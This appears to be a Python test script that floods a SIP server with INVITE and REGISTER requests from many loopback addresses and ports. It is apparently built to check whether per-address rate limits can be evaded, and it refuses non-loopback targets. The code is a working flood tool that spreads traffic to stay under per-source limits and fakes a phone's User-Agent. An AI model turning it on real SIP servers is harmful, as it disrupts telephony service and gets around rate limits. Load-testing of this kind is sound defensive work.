#!/usr/bin/env python3
"""A SIP flood from many loopback source addresses and ports, for scripts/attack.sh.

    scripts/sipflood.py --target 127.0.0.1:5060 --domain example.test \
        --sources 127.0.1.1 --source-count 100 --sockets 4 \
        --rate 5000 --seconds 10 [--count N] [--methods INVITE,REGISTER]

Binds SOCKETS UDP sockets (kernel-chosen ports) on each of SOURCE-COUNT
consecutive addresses from --sources, and sends requests round-robin over
them at --rate per second, alternating --methods: INVITEs for users that
are not registered (sip:bot<N>@DOMAIN) and REGISTERs of new users
(sip:bot<ADDR>x<N>@DOMAIN, Contact at the sending socket). Each source
address stays under a per-source rate limit when RATE / SOURCE-COUNT is
below it: this is the flood a per-address limit does not stop.

Stops after --count requests (default RATE * SECONDS) or --seconds,
whichever comes first, reads every answer that arrives meanwhile and for
a second afterwards, and prints one line:

    sipflood: sent=N answers=M codes=404:n,200:m,503:k seconds=S

Only loopback targets and sources are accepted (127.0.0.0/8, ::1).
"""

import argparse
import ipaddress
import select
import socket
import sys
import time
from collections import Counter


def loopback(addr: str) -> bool:
    try:
        return ipaddress.ip_address(addr).is_loopback
    except ValueError:
        return False


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--target", required=True, help="HOST:PORT on loopback")
    p.add_argument("--domain", required=True)
    p.add_argument("--sources", default="127.0.1.1", help="first source address (IPv4 loopback)")
    p.add_argument("--source-count", type=int, default=100)
    p.add_argument("--sockets", type=int, default=4, help="sockets (source ports) per address")
    p.add_argument("--rate", type=int, default=5000, help="requests per second, all sources together")
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--count", type=int, help="requests in all (default RATE * SECONDS)")
    p.add_argument("--methods", default="INVITE,REGISTER")
    a = p.parse_args()

    host, _, port = a.target.rpartition(":")
    host = host.strip("[]")
    first = ipaddress.IPv4Address(a.sources)
    last = first + (a.source_count - 1)
    if not loopback(host) or not loopback(str(first)) or not loopback(str(last)):
        p.error("target and sources must be loopback addresses")
    if a.rate < 1 or a.seconds <= 0 or a.source_count < 1 or a.sockets < 1:
        p.error("rate, seconds, source-count and sockets must be positive")
    target = (host, int(port))
    count = a.count if a.count is not None else int(a.rate * a.seconds)
    methods = [m.strip().upper() for m in a.methods.split(",") if m.strip()]

    socks = []
    for i in range(a.source_count):
        src = str(first + i)
        for _ in range(a.sockets):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((src, 0))
            s.setblocking(False)
            socks.append(s)

    codes: Counter = Counter()
    answers = 0
    sendbuf_full = 0

    def drain(timeout: float) -> None:
        nonlocal answers
        while True:
            ready, _, _ = select.select(socks, [], [], timeout)
            if not ready:
                return
            for s in ready:
                while True:
                    try:
                        data = s.recv(65535)
                    except (BlockingIOError, ConnectionRefusedError):
                        break
                    answers += 1
                    parts = data.split(b" ", 2)
                    if len(parts) >= 2 and parts[0] == b"SIP/2.0":
                        codes[parts[1].decode("ascii", "replace")] += 1
                    else:
                        codes["other"] += 1
            timeout = 0

    def message(n: int, s: socket.socket) -> bytes:
        lip, lport = s.getsockname()
        method = methods[n % len(methods)]
        tag = f"{lip.replace('.', '-')}x{n}"
        if method == "REGISTER":
            ruri, user = f"sip:{a.domain}", f"bot{tag}"
            extra = f"Contact: <sip:{user}@{lip}:{lport}>\r\nExpires: 3600\r\n"
        else:
            ruri, user = f"sip:bot{n}@{a.domain}", f"bot{n}"
            extra = f"Contact: <sip:caller@{lip}:{lport}>\r\n"
        return (
            f"{method} {ruri} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {lip}:{lport};branch=z9hG4bK-fl{n};rport\r\n"
            f"From: <sip:caller{n}@{a.domain}>;tag=fl{n}\r\n"
            f"To: <sip:{user}@{a.domain}>\r\n"
            f"Call-ID: flood-{tag}\r\n"
            f"CSeq: 1 {method}\r\n"
            f"{extra}"
            f"Max-Forwards: 70\r\n"
            f"User-Agent: Grandstream GXP2170\r\n"
            f"Content-Length: 0\r\n\r\n"
        ).encode()

    start = time.monotonic()
    deadline = start + a.seconds
    sent = 0
    while sent < count:
        now = time.monotonic()
        if now >= deadline:
            break
        due = min(count, int((now - start) * a.rate) + 1)
        while sent < due:
            s = socks[sent % len(socks)]
            try:
                s.sendto(message(sent, s), target)
            except BlockingIOError:
                sendbuf_full += 1
            except ConnectionRefusedError:
                pass
            sent += 1
        drain(0.001)
    elapsed = time.monotonic() - start
    drain(1.0)
    for s in socks:
        s.close()
    code_list = ",".join(f"{k}:{v}" for k, v in sorted(codes.items()))
    print(
        f"sipflood: sent={sent} answers={answers} codes={code_list or '-'} "
        f"seconds={elapsed:.1f} sources={a.source_count} sockets={len(socks)} "
        f"send_buffer_full={sendbuf_full}"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
